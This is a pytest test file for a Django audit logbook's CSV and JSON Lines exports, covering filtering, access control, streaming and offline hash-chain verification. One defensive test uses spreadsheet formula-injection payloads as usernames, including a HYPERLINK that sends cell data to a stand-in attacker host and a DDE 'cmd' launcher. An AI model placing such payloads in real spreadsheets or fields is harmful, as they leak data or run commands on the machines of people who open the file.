"""Exports of the current filters as CSV and JSON Lines: streamed, complete, checkable offline."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.conf import settings
from django.http import StreamingHttpResponse
from django.test import AsyncClient

from audit.exports import EXPORT_COLUMNS, FORMULA_STARTS, LogbookExport
from audit.models import LogbookEntry
from audit.selectors import LogbookFilters
from audit.services import GENESIS_HASH, logbook_append
from tests.audit.conftest import HUGE_NUMBER, INFINITE_TIME, append_many, make_unreadable, on_postgresql, signed_in
from tests.audit.fixtures import SampleLogbook
from tests.conftest import World

pytestmark = pytest.mark.django_db

CSV_URL = "/logbook/export.csv"
JSONL_URL = "/logbook/export.jsonl"


def body(response: Any) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode()  # type: ignore[arg-type]


def jsonl(response: Any) -> list[dict[str, Any]]:
    return [json.loads(line) for line in body(response).splitlines()]


def offline_digest(record: dict[str, Any]) -> str:
    """What an auditor computes from an exported record alone, following the documented recipe."""
    canonical = {
        "prev": record["prev_hash"],
        "at": record["created_at"],
        "actor_id": record["actor_id"],
        "actor": record["actor"],
        "action": record["action"],
        "account": record["account_id"],
        "request": record["request_id"],
        "instances": record["instance_ids"],
        "detail": record["detail"],
        "key": record["key_id"],
    }
    text = json.dumps(canonical, sort_keys=True, separators=(",", ":"))
    key = settings.PASSPORT_LOGBOOK_KEYS[record["key_id"]]
    return hmac.new(key.encode(), text.encode(), hashlib.sha256).hexdigest()


def test_csv_has_a_header_and_one_row_per_entry(world: World, sample: SampleLogbook) -> None:
    response = signed_in(world.auditor).get(CSV_URL, {"account": "111111111111"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="logbook-')
    rows = list(csv.DictReader(io.StringIO(body(response))))
    assert list(rows[0]) == EXPORT_COLUMNS
    assert [int(row["id"]) for row in rows] == [sample.created.pk, sample.approved.pk, sample.ready.pk]
    first = rows[0]
    assert first["actor"] == "alice" and first["action"] == "request.created"
    assert first["request_id"] == "11" and first["instance_ids"] == f" {world.web.instance_id} "
    assert json.loads(first["detail"]) == sample.created.detail
    assert (first["prev_hash"], first["hash"]) == (sample.created.prev_hash, sample.created.hash)
    assert rows[2]["actor_id"] == ""  # the worker's entry has no actor id


def test_csv_rows_can_be_verified_offline(world: World, sample: SampleLogbook) -> None:
    rows = list(csv.DictReader(io.StringIO(body(signed_in(world.auditor).get(CSV_URL)))))
    for row in rows:
        record: dict[str, Any] = {
            **row,
            "actor_id": int(row["actor_id"]) if row["actor_id"] else None,
            "request_id": int(row["request_id"]) if row["request_id"] else None,
            "detail": json.loads(row["detail"]),
        }
        assert offline_digest(record) == row["hash"]


def test_jsonl_is_one_parseable_record_per_line_with_the_filters_applied(world: World, sample: SampleLogbook) -> None:
    response = signed_in(world.auditor).get(JSONL_URL, {"instance": world.web.instance_id})
    assert response["Content-Type"] == "application/x-ndjson; charset=utf-8"
    records = jsonl(response)
    assert [record["id"] for record in records] == [sample.created.pk, sample.ready.pk]
    assert set(records[0]) == set(EXPORT_COLUMNS)
    assert records[1]["detail"] == {"username": "rs-4f2a9c", "targets": 2}


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"person": "carol"}, ["approved"]),
        ({"request": "12"}, ["staging"]),
        ({"action": "request.created"}, ["created", "staging"]),
        ({"q": "nginx"}, ["staging"]),
        ({"since": "2026-03-03T00:00", "until": "2026-03-03T23:59"}, ["staging"]),
    ],
)
def test_each_filter_narrows_the_export(
    world: World, sample: SampleLogbook, params: dict[str, str], expected: list[str]
) -> None:
    records = jsonl(signed_in(world.auditor).get(JSONL_URL, params))
    assert [record["id"] for record in records] == [getattr(sample, name).pk for name in expected]


def test_an_unfiltered_export_is_the_whole_chain_in_order(world: World, sample: SampleLogbook) -> None:
    records = jsonl(signed_in(world.auditor).get(JSONL_URL))
    assert [record["id"] for record in records] == [entry.pk for entry in reversed(sample.all)]
    previous = GENESIS_HASH
    for record in records:
        assert record["prev_hash"] == previous
        assert offline_digest(record) == record["hash"]
        previous = record["hash"]


def test_an_export_is_recorded_just_after_what_it_covers(world: World, sample: SampleLogbook) -> None:
    records = jsonl(signed_in(world.auditor).get(JSONL_URL, {"account": "222222222222", "q": "nginx"}))
    assert [record["id"] for record in records] == [sample.staging.pk]
    entry = LogbookEntry.objects.order_by("-id").first()
    assert entry is not None
    assert (entry.action, entry.actor_id, entry.prev_hash) == ("logbook.exported", world.auditor.pk, sample.ready.hash)
    assert entry.detail == {"format": "jsonl", "up_to_id": sample.ready.pk, "account": "222222222222", "q": "nginx"}


@pytest.mark.parametrize("url", [CSV_URL, JSONL_URL])
@pytest.mark.parametrize("persona", ["requester", "approver", "outsider"])
def test_only_auditors_may_export(world: World, sample: SampleLogbook, url: str, persona: str) -> None:
    before = LogbookEntry.objects.count()
    response = signed_in(getattr(world, persona)).get(url)
    assert response.status_code == 403
    assert LogbookEntry.objects.count() == before


def test_bad_filters_are_a_bad_request(world: World, sample: SampleLogbook) -> None:
    response = signed_in(world.auditor).get(CSV_URL, {"request": "eleven"})
    assert response.status_code == 400
    assert "request: A request id is a whole number." in response.content.decode()


def test_the_export_reads_in_batches_and_stops_at_the_newest_entry_it_saw(world: World) -> None:
    entries = append_many(7)
    export = LogbookExport(user=world.auditor, filters=LogbookFilters(), fmt="jsonl", batch_size=2)
    chunks = export.sync_chunks()
    first = next(chunks)
    append_many(2, action="later.event")
    lines = (first + "".join(chunks)).splitlines()
    assert first.count("\n") == 2
    assert [json.loads(line)["id"] for line in lines] == [entry.pk for entry in entries]


def test_the_async_export_yields_the_same_lines(world: World, sample: SampleLogbook) -> None:
    export = LogbookExport(user=world.auditor, filters=LogbookFilters(), fmt="csv", batch_size=3)

    async def collect() -> str:
        return "".join([chunk async for chunk in export.async_chunks()])

    synchronous = "".join(LogbookExport(user=world.auditor, filters=LogbookFilters(), fmt="csv").sync_chunks())
    assert async_to_sync(collect)() == synchronous


def test_under_asgi_the_response_streams_asynchronously(world: World, sample: SampleLogbook) -> None:
    client = AsyncClient()
    client.force_login(world.auditor)

    async def fetch() -> tuple[bool, str]:
        response = await client.get(JSONL_URL, {"account": "222222222222"})
        parts = [part async for part in response.streaming_content]
        return response.is_async, b"".join(parts).decode()

    is_async, text = async_to_sync(fetch)()
    assert is_async
    assert [json.loads(line)["id"] for line in text.splitlines()] == [sample.staging.pk]


@pytest.mark.parametrize(
    "username", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx"]
)
def test_a_csv_cell_is_never_a_spreadsheet_formula_and_still_verifies(world: World, username: str) -> None:
    """A username from an identity provider reaches the CSV: written with a leading apostrophe, and an auditor
    who drops that apostrophe (as the module documents) still recomputes the entry's hash."""
    person = type(world.auditor).objects.create_user(username=username, password=None)
    entry = logbook_append(action="test.formula", actor=person, detail={"note": "=1+1"})
    rows = list(csv.DictReader(io.StringIO(body(signed_in(world.auditor).get(CSV_URL)))))
    row = next(row for row in rows if row["id"] == str(entry.pk))
    assert row["actor"] == "'" + username
    assert row["detail"].startswith("{")
    record: dict[str, Any] = {
        **{column: unguarded_cell(value) for column, value in row.items()},
        "actor_id": int(row["actor_id"]),
        "request_id": None,
        "detail": json.loads(row["detail"]),
    }
    assert offline_digest(record) == row["hash"]


def unguarded_cell(value: str) -> str:
    """The documented recipe: one apostrophe before = + - @ TAB or CR is the export's, not the entry's."""
    return value[1:] if value[:1] == "'" and value[1:2] in FORMULA_STARTS else value


def test_entries_python_cannot_read_are_exported_as_stored(world: World) -> None:
    """A detail or time only a database writer can leave: both exports carry every entry, such a
    field as its stored text (so the hash, recomputed offline, does not match), JSON Lines naming it."""
    if not on_postgresql():
        pytest.skip("PostgreSQL holds these values.")
    entries = append_many(3)
    make_unreadable(entries[0], HUGE_NUMBER)
    make_unreadable(entries[1], INFINITE_TIME)
    client = signed_in(world.auditor)
    records = {record["id"]: record for record in jsonl(client.get(JSONL_URL))}
    huge = '{"n": ' + "9" * 5000 + "}"
    assert (records[entries[0].pk]["detail"], records[entries[0].pk]["unreadable"]) == (huge, ["detail"])
    assert (records[entries[1].pk]["created_at"], records[entries[1].pk]["unreadable"]) == ("infinity", ["created_at"])
    assert records[entries[2].pk]["detail"] == {"n": 2} and "unreadable" not in records[entries[2].pk]
    rows = {int(row["id"]): row for row in csv.DictReader(io.StringIO(body(client.get(CSV_URL))))}
    assert rows[entries[0].pk]["detail"] == huge
    assert rows[entries[1].pk]["created_at"] == "infinity"
    assert rows[entries[2].pk]["detail"] == '{"n":2}'
